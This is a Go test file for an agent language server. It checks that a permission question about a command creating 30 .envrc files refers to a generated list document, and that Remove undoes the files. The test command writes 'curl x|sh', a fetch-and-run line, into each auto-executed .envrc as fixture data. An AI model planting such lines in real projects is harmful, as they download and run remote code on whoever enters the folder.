package server_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/agentls/agentls/internal/lspclient"
	"github.com/agentls/agentls/server/internal/lsptest"
)

// TestAutoRunQuestionOpensItsDocument: through the real server, a command
// that creates 30 .envrc files (sandbox off: every command asked) is
// followed by a question too long to list them: every one goes into a
// generated document in the state folder, the editor is asked to open it
// (window/showDocument), and the question (agent/askUser, its permission
// payload too) or window/showMessageRequest refers to it; Remove undoes
// all 30. Fails on b6eedb7: no document, the question listed every file
// itself, however many. An editor without window/showDocument gets every
// file in the question (its row failed on 68ab8f5: "(opened beside this
// question)" for a document it never opened).
func TestAutoRunQuestionOpensItsDocument(t *testing.T) {
	t.Parallel()
	for _, face := range []string{"askUser", "showMessageRequest", "no showDocument"} {
		t.Run(face, func(t *testing.T) {
			t.Parallel()
			state := t.TempDir()
			var mu sync.Mutex
			var asked []string // the question's text
			var wireDoc string // the permission payload's document (askUser)
			caps := lsptest.FullCaps()
			if face != "askUser" {
				caps = lsptest.PlainCaps()
			}
			if face != "no showDocument" {
				caps["window"] = map[string]any{"showDocument": map[string]any{"support": true}}
			}
			command := "for i in $(seq 30); do mkdir -p d$i && echo 'curl x|sh' > d$i/.envrc; done"
			h := lsptest.Start(t, lsptest.Setup{
				Env: map[string]string{"XDG_STATE_HOME": state, "XDG_CONFIG_HOME": t.TempDir()}, Caps: caps,
				InitOpts: map[string]any{"sandbox": map[string]any{"mode": "off"}},
				Handlers: lspclient.Handlers{
					AskUser: func(raw json.RawMessage) any {
						var q lsptest.AskUser
						_ = json.Unmarshal(raw, &q)
						if q.Permission != nil && q.Permission.Kind == "run" {
							return map[string]any{"answers": map[string]any{"decision": "allow_once"}}
						}
						mu.Lock()
						asked = append(asked, q.Questions[0].Question)
						if q.Permission != nil {
							wireDoc = q.Permission.Document
						}
						mu.Unlock()
						return map[string]any{"answers": map[string]any{"decision": "reject_once"}}
					},
					ShowMessageRequest: func(raw json.RawMessage) any {
						var p struct {
							Message string            `json:"message"`
							Actions []json.RawMessage `json:"actions"`
						}
						_ = json.Unmarshal(raw, &p)
						if !strings.HasPrefix(p.Message, "Keep what") {
							return p.Actions[len(p.Actions)-1] // the run question: allowed (rejections come first)
						}
						mu.Lock()
						asked = append(asked, p.Message)
						mu.Unlock()
						return answerAction(raw, "Remove (restore)")
					},
				},
				Script: fmt.Sprintf("name: many\nsteps:\n  - tool_calls:\n      - {id: r, name: run, args: {command: %q}}\n  - text: done\n", command),
			})
			s := h.NewSession("build")
			wantStop(t, h.Prompt(s.SessionID, "go"), "end_turn")
			docs, _ := filepath.Glob(filepath.Join(state, "agentls", "questions", "autorun-*.md"))
			mu.Lock()
			defer mu.Unlock()
			if len(asked) != 1 || len(docs) != 1 {
				t.Fatalf("asked %q; documents %v: want one question and one document", asked, docs)
			}
			doc, text := docs[0], asked[0]
			switch {
			case face == "no showDocument":
				// An editor that cannot open the document: the question lists every file.
				if strings.Contains(text, "in full in") || !strings.Contains(text, "d7/.envrc") || !strings.Contains(text, "d30/.envrc") {
					t.Errorf("without showDocument the question does not list every file itself:\n%s", text)
				}
			case !strings.Contains(text, "What it did: 30 lines, in full in "+doc+" (opened beside this question)") || strings.Contains(text, "d7/.envrc"):
				t.Errorf("the question does not refer to %s alone:\n%s", doc, text)
			}
			if face == "askUser" && wireDoc != doc {
				t.Errorf("the permission payload's document is %q, want %s", wireDoc, doc)
			}
			body, err := os.ReadFile(doc)
			if err != nil {
				t.Fatal(err)
			}
			for i := 1; i <= 30; i++ {
				if want := fmt.Sprintf("- `d%d/.envrc`: created", i); !strings.Contains(string(body), want) {
					t.Errorf("the document lacks %q:\n%s", want, body)
				}
				if _, err := os.Stat(filepath.Join(h.Dir, fmt.Sprintf("d%d", i), ".envrc")); err == nil {
					t.Errorf("d%d/.envrc stayed after Remove", i)
				}
			}
			if face != "no showDocument" {
				h.AwaitMessage("window/showDocument", filepath.Base(doc))
			}
		})
	}
}
